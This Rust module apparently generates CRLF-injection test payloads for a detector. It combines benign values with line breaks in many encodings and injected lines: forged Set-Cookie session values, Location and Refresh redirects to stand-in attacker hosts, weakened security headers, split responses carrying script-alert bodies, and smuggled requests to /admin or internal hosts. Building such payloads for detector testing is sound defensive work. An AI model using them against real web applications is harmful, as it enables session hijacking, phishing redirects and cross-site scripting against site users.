//! CRLF injection (response splitting, header injection, request smuggling through a value the
//! application copies into a header or an upstream request): a realistic value × a line break
//! in one of its spellings × what follows it (a response header, a status line and a second
//! response, a second request line, a blank line and a body) × an encoding layer over the break
//! or over the whole payload (the value is what the application receives after its own
//! decoding, so `%0d%0a` is a layer the application undoes, `%250d%250a` two).

use crate::mutate::{html_entities, join, percent_all, percent_specials};
use crate::{Carrier, Family, Rng, Variant};

pub struct Crlf;

const VALUES: &[&str] = &["", "x", "en", "/home", "https://shop.example/cart", "1", "dark", "utm_source", "fr-FR", "ok"];
const HOSTS: &[&str] = &["evil.example", "attacker.test", "198.51.100.7", "cdn.evil.example:8080"];

/// The line break as the application receives it, and the mutation name.
fn line_break(rng: &mut Rng) -> (&'static str, &'static str) {
    *rng.pick(&[
        ("\r\n", "raw-crlf"),
        ("\n", "raw-lf"),
        ("%0d%0a", "pct-crlf"),
        ("%0D%0A", "pct-crlf"),
        ("%0a", "pct-lf"),
        ("%0d", "pct-cr"),
        ("%250d%250a", "double-pct-crlf"),
        ("%25250a", "triple-pct-lf"),
        ("&#13;&#10;", "entity-crlf"),
        ("&#x0d;&#x0a;", "entity-crlf"),
        ("%26%2313%3B%26%2310%3B", "pct-entity-crlf"),
        ("%E5%98%8A%E5%98%8D", "unicode-lookalike"),
    ])
}

/// The injected lines after the break and the kind's name.
fn injected(rng: &mut Rng) -> (Vec<String>, &'static str) {
    let host = *rng.pick(HOSTS);
    match rng.below(7) {
        0 | 1 => {
            let cookie = format!(
                "{}={}",
                rng.pick(&["session", "sid", "JSESSIONID", "auth", "admin"]),
                rng.pick(&["attacker", "1", "deadbeef", "true"])
            );
            let attrs = *rng.pick(&["", "; Path=/", "; Domain=.shop.example", "; HttpOnly"]);
            (vec![format!("Set-Cookie: {cookie}{attrs}")], "set-cookie")
        }
        2 => (vec![format!("Location: {}{host}/{}", rng.pick(&["http://", "https://", "//"]), rng.pick(&["", "login", "x"]))], "location"),
        3 => {
            let name = *rng.pick(&[
                "X-XSS-Protection",
                "Access-Control-Allow-Origin",
                "Content-Security-Policy",
                "X-Forwarded-Host",
                "Refresh",
                "Cache-Control",
                "X-Injected",
                "Link",
                "Content-Type",
            ]);
            let value = match name {
                "X-XSS-Protection" => "0".to_string(),
                "Access-Control-Allow-Origin" => format!("https://{host}"),
                "Content-Security-Policy" => "script-src *".to_string(),
                "Refresh" => format!("0; url=https://{host}/"),
                "Cache-Control" => "public, max-age=31536000".to_string(),
                "Link" => format!("<https://{host}/x.css>; rel=stylesheet"),
                "Content-Type" => "text/html".to_string(),
                _ => host.to_string(),
            };
            (vec![format!("{name}: {value}")], "header")
        }
        4 => {
            let body =
                *rng.pick(&["<script>alert(document.domain)</script>", "<html><body>Login expired</body></html>", "<svg onload=alert(1)>"]);
            (
                vec![
                    "Content-Length: 0".into(),
                    String::new(),
                    "HTTP/1.1 200 OK".into(),
                    "Content-Type: text/html".into(),
                    String::new(),
                    body.into(),
                ],
                "second-response",
            )
        }
        5 => {
            let path = *rng.pick(&["/admin", "/internal/flush", "/api/users/1", "/"]);
            (
                vec![
                    String::new(),
                    format!("{} {path} HTTP/1.1", rng.pick(&["GET", "POST", "DELETE"])),
                    format!("Host: {}", rng.pick(&["localhost", "internal", "127.0.0.1"])),
                ],
                "request-line",
            )
        }
        _ => {
            let body = *rng.pick(&["<script>alert(1)</script>", "<h1>Site moved</h1>", "<img src=x onerror=alert(1)>"]);
            (vec![String::new(), body.into()], "body")
        }
    }
}

impl Family for Crlf {
    fn name(&self) -> &'static str {
        "crlf"
    }

    fn detector(&self) -> &'static str {
        "crlf"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (lines, kind) = injected(rng);
        let (brk, brk_name) = line_break(rng);
        let mut names = vec![kind, brk_name];
        let mut text = rng.pick(VALUES).to_string();
        for line in &lines {
            text.push_str(brk);
            text.push_str(line);
        }
        // The header line itself encoded too (`Set%2DCookie%3A%20`): the application decodes it
        // along with the break.
        if brk_name.starts_with("pct") && rng.chance(0.3) {
            text = text.replace(": ", "%3A%20").replace('-', "%2D");
            names.push("pct-header");
        }
        let (payload, layer) = match rng.below(8) {
            0 => (percent_specials(&text), "url"),
            1 => (percent_specials(&percent_specials(&text)), "double-url"),
            2 => (percent_all(&text), "url-all"),
            3 => (html_entities(rng, &text, 1.0), "html-entities"),
            _ => (text, ""),
        };
        names.push(layer);
        Variant { family: "crlf", mutation: join(&names), payload, carrier: Carrier::Value }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn many_distinct_variants() {
        let variants = crate::sample(&Crlf, 1, 3000);
        let distinct: std::collections::HashSet<_> = variants.iter().map(|v| v.payload.as_str()).collect();
        assert!(distinct.len() > 1500, "{}", distinct.len());
    }
}
